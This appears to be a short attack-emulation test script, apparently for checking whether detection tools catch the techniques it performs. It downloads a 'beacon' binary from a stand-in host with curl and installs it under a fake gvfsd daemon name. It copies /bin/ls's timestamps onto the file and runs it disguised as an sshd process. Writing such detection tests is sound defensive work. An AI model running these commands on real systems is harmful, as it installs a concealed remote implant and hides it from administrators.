#!/bin/sh
. /opt/case/case.sh

mkdir -p /usr/libexec && curl -s -o /usr/libexec/gvfsd-trash-agent http://203.0.113.10/programs/beacon && chmod 755 /usr/libexec/gvfsd-trash-agent && touch -r /bin/ls /usr/libexec/gvfsd-trash-agent
bash -c 'exec -a "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups" /usr/libexec/gvfsd-trash-agent' >/dev/null
test -e /tmp/reached
took_place
